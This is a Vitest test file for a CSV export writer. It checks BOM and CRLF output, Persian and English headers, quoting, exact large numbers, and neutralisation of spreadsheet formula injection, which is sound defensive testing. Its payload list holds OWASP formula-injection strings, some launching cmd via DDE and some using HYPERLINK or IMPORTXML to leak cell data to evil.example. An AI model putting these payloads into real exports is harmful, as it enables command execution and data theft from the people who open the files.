import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseText } from '../../server/export/cells.ts';
import { csvLine, csvLineWriter } from '../../server/export/csv-writer.ts';
import { col } from '../../server/export/columns.ts';
import { tableOf, type Row } from '../../server/export/table.ts';
import { csvText } from './export-helpers.ts';

/**
 * Payloads from OWASP's "CSV Injection" page and its formula-injection cheat sheet: each starts
 * with one of the characters a spreadsheet reads as a formula.
 */
const OWASP_PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click here")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=DDE("cmd";"/C calc";"!A0")',
];

const columns = [
  col('name', 'text', 'نام', 'Name'),
  col('count', 'int', 'تعداد', 'Count'),
  col('change', 'int', 'تغییر', 'Change'),
  col('share', 'ratio', 'سهم', 'Share'),
  col('amount', 'money', 'مبلغ', 'Amount'),
  col('year', 'year', 'سال', 'Year'),
];

const options = { lang: 'fa', header: 'labels', bom: true } as const;

describe('CSV writer', () => {
  it('starts with a BOM, ends lines with CRLF and names columns in the page language', async () => {
    const text = await csvText(tableOf(columns, [['تهران', 1, -2, 0.5, '7', 1402]]), options);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toBe('\ufeffنام,تعداد,تغییر,سهم,مبلغ,سال\r\nتهران,1,-2,0.5,7,1402\r\n');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('omits the BOM with bom=0 and writes English or machine-key headers', async () => {
    const table = () => tableOf(columns, []);
    expect(await csvText(table(), { ...options, bom: false, lang: 'en' })).toBe(
      'Name,Count,Change,Share,Amount,Year\r\n',
    );
    expect(await csvText(table(), { ...options, header: 'keys' })).toBe(
      '\ufeffname,count,change,share,amount,year\r\n',
    );
  });

  it('quotes per RFC 4180 only where needed, and round-trips', async () => {
    const names = ['a,b', 'say "hi"', 'line\nbreak', 'cr\rlf', 'plain', 'فلزی، ماشین‌آلات'];
    const rows: Row[] = names.map((n, i) => [n, i, null, null, null, null]);
    const text = await csvText(tableOf(columns, rows), { ...options, bom: false });
    expect(text).toContain('\r\n"a,b",0,');
    expect(text).toContain('\r\n"say ""hi""",1,');
    expect(text).toContain('\r\nplain,4,');
    const parsed = parse(text);
    expect(parsed.slice(1).map((r) => r[0])).toEqual([
      'a,b',
      'say "hi"',
      'line\nbreak',
      'cr\rlf',
      'plain',
      'فلزی، ماشین‌آلات',
    ]);
  });

  it('keeps numbers unformatted, Latin and exact, money beyond 2^53 included', async () => {
    const huge = '123456789012345678901234567890';
    const rows: Row[] = [
      ['x', 1234567, -1234567, 1 / 3, huge, 1403],
      ['y', 0, 0, 0, '-5', 1396],
      ['z', 2 ** 53 + 2, null, null, '9007199254740993', null],
    ];
    const text = await csvText(tableOf(columns, rows), { ...options, bom: false });
    const [, a, b, c] = parse(text);
    expect(a).toEqual(['x', '1234567', '-1234567', String(1 / 3), huge, '1403']);
    expect(b).toEqual(['y', '0', '0', '0', '-5', '1396']);
    expect(c).toEqual(['z', '9007199254740994', '', '', '9007199254740993', '']);
    expect(text).not.toMatch(/[\u06f0-\u06f9\u0660-\u0669]/);
  });

  it.each(OWASP_PAYLOADS)('neutralises the OWASP payload %j in text cells', async (payload) => {
    const text = await csvText(tableOf(columns, [[payload, -3, -4, -0.5, '-6', 1400]]), {
      ...options,
      bom: false,
    });
    const [, row] = parse(text);
    expect(row?.[0]).toBe(`'${payload}`);
    // Numeric cells, negative ones included, stay plain numbers.
    expect(row?.slice(1)).toEqual(['-3', '-4', '-0.5', '-6', '1400']);
  });

  it('neutralises text in any column, and leaves harmless text alone', () => {
    for (const p of OWASP_PAYLOADS) expect(neutraliseText(p)).toBe(`'${p}`);
    for (const safe of ['واحد ۱', 'IR-10', 'a=b', ' =1', "'=1", '1-2']) {
      expect(neutraliseText(safe)).toBe(safe);
    }
  });

  it('treats a non-numeric string in a money column as text', async () => {
    const text = await csvText(tableOf(columns, [['n', 1, 1, 1, '=1+1', 1]]), {
      ...options,
      bom: false,
    });
    expect(parse(text)[1]?.[4]).toBe("'=1+1");
  });
});

describe('csvLineWriter (the raw lists’ writer)', () => {
  it('writes exactly what csvLine writes, cached columns included', () => {
    const cached = columns.map((c) => ({ ...c, repeats: true }));
    const write = csvLineWriter(cached);
    const rows: Row[] = [
      ...OWASP_PAYLOADS.map((p, i): Row => [p, i, -i, 0.5, '-12', 1403]),
      ['تهران, "مرکز"', -7, null, null, '123456789012345678901234567890', null],
      // The same values again, now answered from the caches.
      ...OWASP_PAYLOADS.map((p, i): Row => [p, i, -i, 0.5, '-12', 1403]),
    ];
    for (const row of rows) expect(write(row)).toBe(csvLine(row, columns));
    expect(write([OWASP_PAYLOADS[0] ?? '', 1, 2, 3, '4', 5])).toMatch(/^'=1\+1,/);
  });
});
